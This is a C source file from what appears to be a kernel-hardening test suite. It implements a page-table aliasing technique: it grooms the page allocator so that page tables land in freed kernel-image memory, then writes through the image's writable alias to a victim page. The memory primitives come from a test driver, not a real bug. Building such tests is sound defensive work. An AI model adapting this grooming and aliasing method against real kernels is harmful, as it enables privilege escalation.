// SPDX-License-Identifier: GPL-2.0-only
/*
 * A table in memory that the kernel image's mapping has as well: what boot
 * freed of the image, and what lies behind its end in the same large page. A
 * driver's blocks of memory steer it there: stores go to the other mapping.
 */
#include <stddef.h>
#include <stdio.h>
#include <sys/mman.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define IMAGE_PART	0x54
#define LARGEST_ORDER	10
#define CHUNK_ORDER	3	/* the pool takes these when there is nothing larger */
#define HOLE_ORDER	2
#define HOLES		10240	/* and as many that are held */
#define BLOCKS		64	/* in the image */
#define AT_ONCE		128
#define TABLES		4096

#ifdef __x86_64__
struct image {
	uint64_t start, size;	/* in the direct map */
	uint64_t mapping;	/* of start, in the image's mapping */
};

static bool image_find(struct image *image)
{
	uint64_t end = kread64(ksymbol("_brk_end"));
	struct slot slot;

	image->mapping = ksymbol("_text");
	if (!end || kwalk(image->mapping, LEAF, 0, &slot))
		return false;
	image->start = slot.alias;
	image->size = ((end + PMD_SIZE - 1) & -PMD_SIZE) - image->mapping;
	return true;
}

/* The address of a page of the direct map in the image's mapping, or 0. */
static uint64_t image_alias_of(const struct image *image, uint64_t addr)
{
	if (addr - image->start >= image->size)
		return 0;
	return addr - image->start + image->mapping;
}

static bool is_mapped(uint64_t addr)
{
	struct slot slot;

	return addr && !kwalk(addr, LEAF, 0, &slot) && pte_is_writable(slot.value) &&
	       (slot.value & PTE_PRESENT);
}

struct blocks {
	uint64_t addr[BLOCKS];
	int nr;
};

/* Take all blocks that are larger than a chunk; those in the image are wanted. */
static void take_blocks(const struct image *image, bool mapped, struct blocks *wanted)
{
	uint64_t addr, alias;
	int order;

	for (order = LARGEST_ORDER; order > CHUNK_ORDER; order--)
		while (!corrupt_command("alloc order=%d", order)) {
			addr = corrupt_answer("address");
			alias = image_alias_of(image, addr);
			if (alias && wanted->nr < BLOCKS && (!mapped || is_mapped(alias)))
				wanted->addr[wanted->nr++] = addr;
		}
}

/*
 * The kernel keeps the last blocks for itself as long as nothing else is free:
 * leave it small holes instead.
 */
static void take_all_blocks(const struct image *image, bool mapped, struct blocks *wanted)
{
	int i;

	for (i = 0; i < HOLES / AT_ONCE; i++)
		corrupt_command("alloc order=%d count=%d", HOLE_ORDER, AT_ONCE);
	take_blocks(image, mapped, wanted);
	corrupt_command("free holes=1 order=%d", HOLE_ORDER);
	take_blocks(image, mapped, wanted);
}

/* The pool takes parts of blocks; without it a table is any single page. */
static bool free_blocks(const struct blocks *wanted)
{
	int i;

	if (!wanted->nr)
		return false;
	if (!is_protected())
		return !corrupt_command("split addr=0x%lx", wanted->addr[0]) &&
		       !corrupt_command("free count=1");
	for (i = 0; i < wanted->nr; i++)
		if (corrupt_command("free addr=0x%lx", wanted->addr[i]))
			return false;
	return true;
}

static bool wait_for_table(volatile char *base, const struct image *image, bool mapped,
			   struct window *window)
{
	uint64_t alias;
	int i;

	for (i = 1; i < TABLES; i++) {
		(void)base[i * PMD_SIZE];
		if (!window_open_behind(window, base + i * PMD_SIZE))
			return false;
		alias = image_alias_of(image, window->slot);
		if (alias && (!mapped || is_mapped(alias)))
			return true;
	}
	return false;
}

static enum outcome use_table(volatile char *base, const struct image *image, bool mapped)
{
	struct window window;
	char text[64];
	int err;

	if (!wait_for_table(base, image, mapped, &window))
		return broken("none of %d page tables is in memory of the image", TABLES);
	window.slot = image_alias_of(image, window.slot);
	err = window_map(&window, plain_store, NULL, victim_phys());
	snprintf(text, sizeof(text), "%s", window.page);
	window_close(&window);
	return judge_secret(text, err);
}

enum outcome image_alias(void)
{
	volatile char *base = sparse_region(user_room(IMAGE_PART), TABLES, PROT_READ);
	enum outcome outcome;
	struct blocks wanted = { 0 };
	struct image image;
	bool mapped;

	if (!base || !image_find(&image))
		return broken("no room, or no image");
	(void)base[0];
	mapped = is_mapped(image.mapping + image.size - PAGE_SIZE);
	stay_on_cpu(0);	/* what a CPU frees it uses next */
	take_all_blocks(&image, mapped, &wanted);
	if (free_blocks(&wanted))
		outcome = use_table(base, &image, mapped);
	else
		outcome = broken("the page allocator has no memory of the image");
	corrupt_command("free");
	return outcome;
}
#else
enum outcome image_alias(void)
{
	return skipped("the image's mapping of freed memory goes on this architecture");
}
#endif
